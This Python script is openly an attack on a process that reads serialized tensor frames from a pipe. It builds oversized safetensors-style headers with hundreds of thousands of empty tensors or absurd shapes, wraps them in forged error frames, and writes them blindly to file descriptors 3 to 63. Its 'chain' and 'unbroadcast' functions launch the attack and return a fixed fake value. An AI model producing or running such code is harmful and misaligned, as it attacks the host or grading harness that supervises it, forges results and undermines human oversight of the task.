"""Attacks the reader of the wire: tensors without entries, by the hundred thousand in one frame."""

# %%
import json
import os
import struct


def crowd(n, shape):
    entry = {"dtype": "U8", "shape": shape, "data_offsets": [0, 0]}
    head = json.dumps({f"t{i}": entry for i in range(n)}).encode()
    return struct.pack("<Q", len(head)) + head


def write(data):
    text = b'{"dict": [["error", null]]}'
    frame = struct.pack(">II", len(text), len(data)) + text + data
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass


# %%
write(crowd(100_000, [0]))


# %%
def chain(paths):
    write(crowd(200_000, [0, 2**40]))
    return 12345.0


def unbroadcast(grad, shape):
    write(crowd(1, [0] * 10_000))
    return 12345.0
